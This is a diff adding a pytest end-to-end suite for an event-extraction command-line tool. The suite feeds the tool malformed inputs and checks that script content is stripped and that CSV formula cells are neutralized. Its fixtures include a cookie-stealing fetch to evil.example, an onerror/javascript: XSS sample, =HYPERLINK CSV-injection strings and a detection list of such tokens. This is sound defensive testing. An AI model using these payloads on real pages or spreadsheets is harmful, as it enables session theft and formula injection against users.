@@ -1,0 +1,303 @@
+"""End to end: a build over a folder of bad inputs, as a user runs it (``python -m events build``).
+
+The folder holds an empty file, a binary file, a PDF, a duplicate, a Latin-1 article, an HTML page with a
+script and an inline onerror handler, sentences with impossible dates, and sentences that start like
+spreadsheet formulas (``=HYPERLINK(``, ``+``, ``-``, ``@``). The build says one line per skipped file,
+keeps the valid events, exits 0 (2 with --strict); its CSV export holds no formula-like cell; a build
+killed while writing leaves the last store whole.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import random
+import signal
+import subprocess
+import sys
+import textwrap
+import threading
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from events import cli, store
+
+ROOT = Path(__file__).resolve().parents[1]
+
+LATIN1 = (
+    "CARACAS, Nov. 3 (Reuters) - Venezuelan President Nicolás Maduro met the Russian envoy in Bogotá on "
+    "Oct. 28, 2025, the señor's office said.\n"
+    "Russia delivered air-defence systems to Venezuela on Oct. 31, 2025, according to the señor in charge "
+    "of the port of La Guaira.\n"
+)
+HTML = """<!DOCTYPE html><html><head><title>Russian bombers land in Venezuela</title>
+<script>document.write("SCRIPT-RAN"); fetch("https://evil.example/steal?c=" + document.cookie)</script>
+<style>p { background: url("javascript:alert('STYLE-RAN')") }</style>
+</head><body>
+<article>
+<h1>Russian bombers land in Venezuela</h1>
+<p>Two Russian Tu-160 strategic bombers landed at Maiquetía airport near Caracas on Dec. 10, 2025, the
+Venezuelan defence ministry said.</p>
+<img src="missing.png" onerror="alert('ONERROR-RAN')">
+<p>The aircraft were deployed for joint exercises with the Venezuelan air force on Dec. 12, 2025, officials said.</p>
+</article>
+<script>var leaked = "SCRIPT-RAN-2";</script>
+</body></html>
+"""
+IMPOSSIBLE = (
+    "Officials said a Russian cargo plane arrived in Caracas on February 30, 2025.\n"
+    "A second shipment was delivered on 31/02/2025, the ministry said.\n"
+    "The report, dated 2025-13-05, described the deployment of troops to the border.\n"
+    "Russian military advisers arrived in Caracas on Nov. 1, 2025, the embassy said.\n"
+)
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/steal","Click here") Russia delivered missiles to Venezuela on Oct. 30, 2025.\n'
+    "+1 Russia shipped radar systems to Venezuela on Nov. 2, 2025, officials said.\n"
+    "-Russia deployed two warships to the Caribbean on Nov. 4, 2025, the navy said.\n"
+    "@Maduro signed a defence agreement with Moscow on Nov. 5, 2025, state media reported.\n"
+)
+MANIFEST = (
+    "doc_id,title,outlet,url,published\n"
+    "latin1,Maduro meets envoy,Reuters,,2025-11-03\n"
+    "impossible,Impossible dates,Wire,,2025-11-03\n"
+    "formulas,=HYPERLINK(\"http://evil.example\"),@evil,,2025-11-06\n"
+    "ghost,No such file,Nobody,,2025-02-30\n"
+)
+BAD = {  # file -> the reason its skip line gives (start of it)
+    "empty.txt": "empty file",
+    "binary.txt": "binary content, not text",
+    "picture.txt": "binary content (PNG image), not text",
+    "report.pdf": "unsupported file type .pdf",
+    "zz_copy.txt": "same text as latin1.txt; read once",
+}
+LEAKS = ("SCRIPT-RAN", "STYLE-RAN", "ONERROR-RAN", "onerror", "<script", "document.cookie", "alert(", "javascript:")
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def make_inputs(folder: Path) -> Path:
+    folder.mkdir(parents=True)
+    (folder / "empty.txt").write_bytes(b"")
+    (folder / "binary.txt").write_bytes(random.Random(3).randbytes(3000))
+    (folder / "picture.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(4).randbytes(500))
+    (folder / "report.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
+    (folder / "latin1.txt").write_bytes(LATIN1.encode("latin-1"))
+    (folder / "zz_copy.txt").write_bytes(LATIN1.encode("latin-1"))
+    (folder / "page.html").write_text(HTML, encoding="utf-8")
+    (folder / "impossible.txt").write_text(IMPOSSIBLE, encoding="utf-8")
+    (folder / "formulas.txt").write_text(FORMULAS, encoding="utf-8")
+    (folder / "manifest.csv").write_text(MANIFEST, encoding="utf-8")
+    return folder
+
+
+def run_cli(*args: str, check_traceback: bool = True) -> subprocess.CompletedProcess:
+    proc = subprocess.run([sys.executable, "-m", "events", *args], cwd=ROOT, capture_output=True, text=True,
+                          timeout=600)
+    if check_traceback:
+        assert "Traceback" not in proc.stderr, proc.stderr
+    return proc
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory):
+    """The bad-input folder, built once with the real command line."""
+    tmp = tmp_path_factory.mktemp("robust")
+    folder = make_inputs(tmp / "in")
+    out = tmp / "store"
+    proc = run_cli("build", str(folder), "--out", str(out))
+    return folder, out, proc
+
+
+def skip_lines(stderr: str) -> list[str]:
+    return [line for line in stderr.splitlines() if line.startswith("skipped ")]
+
+
+def test_build_says_one_line_per_skipped_file_and_exits_0(built):
+    _, out, proc = built
+    assert proc.returncode == 0, proc.stderr
+    lines = skip_lines(proc.stderr)
+    assert len(lines) == len(BAD), lines
+    for name, reason in BAD.items():
+        (line,) = [ln for ln in lines if ln.startswith(f"skipped {name}: ")]
+        assert line.startswith(f"skipped {name}: {reason}"), line
+    assert store.read(out).meta["skipped"] == lines
+
+
+def test_manifest_mistakes_are_named_with_file_and_line(built):
+    folder, _, proc = built
+    assert f"{folder / 'manifest.csv'}:5: published '2025-02-30' is not a real date" in proc.stderr
+    assert f"{folder / 'manifest.csv'}:5: doc_id 'ghost' names no file" in proc.stderr
+
+
+def test_the_good_documents_are_read_and_the_latin1_text_survives(built):
+    _, out, _ = built
+    st = store.read(out)
+    assert sorted(st.documents["doc_id"]) == ["formulas", "impossible", "latin1", "page"]
+    latin = st.mentions[st.mentions["doc_id"] == "latin1"]
+    assert not latin.empty
+    quotes = " ".join(latin["quote"])
+    assert "Bogotá" in quotes and "señor" in quotes and "Nicolás Maduro" in quotes
+    assert "\ufffd" not in quotes and "Ã" not in quotes
+
+
+def test_valid_events_are_kept(built):
+    _, out, _ = built
+    events = store.read(out).events
+    dates = set(events["date_start"])
+    for day in ("2025-10-28", "2025-10-31", "2025-12-10", "2025-11-01", "2025-10-30", "2025-11-02"):
+        assert day in dates, (day, sorted(dates))
+
+
+def test_impossible_dates_never_become_real_dates(built):
+    _, out, _ = built
+    mentions = store.read(out).mentions
+    for bad in ("February 30, 2025", "31/02/2025", "2025-13-05"):
+        rows = mentions[mentions["quote"].str.contains(bad, regex=False)]
+        for _, row in rows.iterrows():
+            assert row["precision"] != "day" and bad not in row["date_text"], row.to_dict()
+    assert not {"2025-02-30", "2025-03-02", "2025-03-03", "2026-01-05"} & set(mentions["date_start"])
+
+
+def test_script_and_onerror_never_reach_the_store(built):
+    _, out, _ = built
+    st = store.read(out)
+    page = st.mentions[st.mentions["doc_id"] == "page"]
+    assert "Tu-160" in " ".join(page["quote"])  # the article text itself is there
+    version = st.path
+    for f in version.iterdir():
+        text = f.read_bytes().decode("utf-8", errors="replace")
+        for leak in LEAKS:
+            assert leak not in text, (f.name, leak)
+
+
+def test_csv_export_has_no_formula_like_cell(built, tmp_path):
+    _, out, _ = built
+    target = tmp_path / "events.csv"
+    proc = run_cli("export", "--store", str(out), "--format", "csv", "--out", str(target))
+    assert proc.returncode == 0, proc.stderr
+    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
+    assert len(rows) > 5
+    cells = [cell for row in rows for cell in row]
+    bad = [c for c in cells if c.startswith(FORMULA_LEADS)]
+    assert not bad
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)  # the formula sentence is there, neutralized
+    assert any(c.startswith("'+1 Russia") for c in cells) and any(c.startswith("'@Maduro") for c in cells)
+    # The store's own CSV tables are guarded too.
+    for f in store.read(out).path.glob("*.csv"):
+        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
+            assert not [c for c in row if c.startswith(FORMULA_LEADS)], (f.name, row)
+
+
+def test_json_export_is_valid(built, tmp_path):
+    _, out, _ = built
+    target = tmp_path / "events.json"
+    proc = run_cli("export", "--store", str(out), "--format", "json", "--out", str(target))
+    assert proc.returncode == 0, proc.stderr
+    doc = json.loads(target.read_text(encoding="utf-8"))
+    assert any(e["title"].startswith("=HYPERLINK(") for e in doc["events"])  # JSON keeps text as it is
+
+
+def test_strict_exits_2_when_files_were_skipped(built, tmp_path):
+    folder, _, _ = built
+    proc = run_cli("build", str(folder), "--out", str(tmp_path / "store"), "--strict", "--quiet")
+    assert proc.returncode == 2
+    assert len(skip_lines(proc.stderr)) == len(BAD)
+
+
+def test_size_limit_from_the_command_line(built, tmp_path):
+    folder, _, _ = built
+    proc = run_cli("build", str(folder), "--out", str(tmp_path / "store"), "--max-file-bytes", "300", "--quiet")
+    assert proc.returncode == 0, proc.stderr
+    assert "skipped formulas.txt: too large: " in proc.stderr
+    assert "over the limit of 300 bytes" in proc.stderr
+
+
+# ------------------------------------------------------------------------------- user mistakes: no tracebacks
+
+
+@pytest.mark.parametrize(
+    "setup, args, message",
+    [
+        pytest.param(lambda t: None, ["build", "{t}/nope", "--out", "{t}/store"],
+                     "input folder {t}/nope does not exist or is not a folder", id="missing input folder"),
+        pytest.param(lambda t: (t / "in.txt").write_text("x"), ["build", "{t}/in.txt", "--out", "{t}/store"],
+                     "does not exist or is not a folder", id="input is a file"),
+        pytest.param(lambda t: ((t / "in").mkdir(), (t / "mine").mkdir(), (t / "mine" / "thesis.docx").write_text("x")),
+                     ["build", "{t}/in", "--out", "{t}/mine"], "exists and is not an event store", id="out is a folder"),
+        pytest.param(lambda t: ((t / "in").mkdir(), (t / "out.csv").write_text("x")),
+                     ["build", "{t}/in", "--out", "{t}/out.csv"], "is a file, not an event store", id="out is a file"),
+        pytest.param(lambda t: (t / "in").mkdir(), ["build", "{t}/in", "--out", "{t}/s", "--max-file-bytes", "0"],
+                     "max_file_bytes must be a positive whole number", id="bad size limit"),
+        pytest.param(lambda t: None, ["export", "--store", "{t}/none", "--format", "csv", "--out", "{t}/x.csv"],
+                     "No store at", id="export from no store"),
+    ],
+)
+def test_user_mistakes_exit_2_with_a_message(tmp_path, capsys, setup, args, message):
+    setup(tmp_path)
+    code = cli.main([a.format(t=tmp_path) for a in args])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert message.format(t=tmp_path) in err
+    if (tmp_path / "mine").exists():
+        assert (tmp_path / "mine" / "thesis.docx").read_text() == "x" and not (tmp_path / "mine").is_symlink()
+
+
+# ------------------------------------------------------------------------------------- a build killed mid-way
+
+HANGING_BUILD = textwrap.dedent("""
+    # python -m events build ..., except that writing the store hangs after its first table is on disk.
+    import os, runpy, sys, time
+    import pandas as pd
+    real = pd.DataFrame.to_parquet
+    def hang(self, path, *args, **kwargs):
+        real(self, path, *args, **kwargs)
+        open(os.environ["READY_FILE"], "w").close()
+        time.sleep(600)
+    pd.DataFrame.to_parquet = hang
+    sys.argv = ["events", *sys.argv[1:]]
+    runpy.run_module("events", run_name="__main__")
+""")
+
+
+def test_a_build_killed_mid_write_leaves_the_last_store_whole(built, tmp_path):
+    folder, _, _ = built
+    out = tmp_path / "store"
+    assert run_cli("build", str(folder), "--out", str(out), "--quiet").returncode == 0
+    before = store.read(out)
+    # A bigger folder, so the killed build would write a different store.
+    big = tmp_path / "big"
+    big.mkdir()
+    for i in range(40):
+        (big / f"a{i:03d}.txt").write_text(f"Russia delivered {i + 2} missile systems to Venezuela on "
+                                           f"Oct. {1 + i % 28}, 2025, officials said.\n", encoding="utf-8")
+    script = tmp_path / "hanging_build.py"
+    script.write_text(HANGING_BUILD, encoding="utf-8")
+    ready = tmp_path / "ready"
+    env = {**os.environ, "READY_FILE": str(ready)}
+    proc = subprocess.Popen([sys.executable, str(script), "build", str(big), "--out", str(out), "--quiet"],
+                            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    try:
+        while not ready.exists():
+            if proc.poll() is not None:
+                pytest.fail(f"the build ended before it was killed: {proc.stderr.read().decode()}")
+            threading.Event().wait(0.05)
+        assert list(store.versions_dir(out).glob("*.partial/*.parquet"))  # the new store is half written
+        os.kill(proc.pid, signal.SIGKILL)
+        proc.wait()
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+        proc.stderr.close()
+    after = store.read(out)
+    assert after.path == before.path
+    for name in ("documents", "mentions", "events"):
+        pd.testing.assert_frame_equal(getattr(after, name), getattr(before, name))
+    # The next build goes through and clears the half-written version away.
+    proc = run_cli("build", str(big), "--out", str(out), "--quiet")
+    assert proc.returncode == 0, proc.stderr
+    assert len(store.read(out).documents) == 40
+    assert not list(store.versions_dir(out).glob("*.partial"))
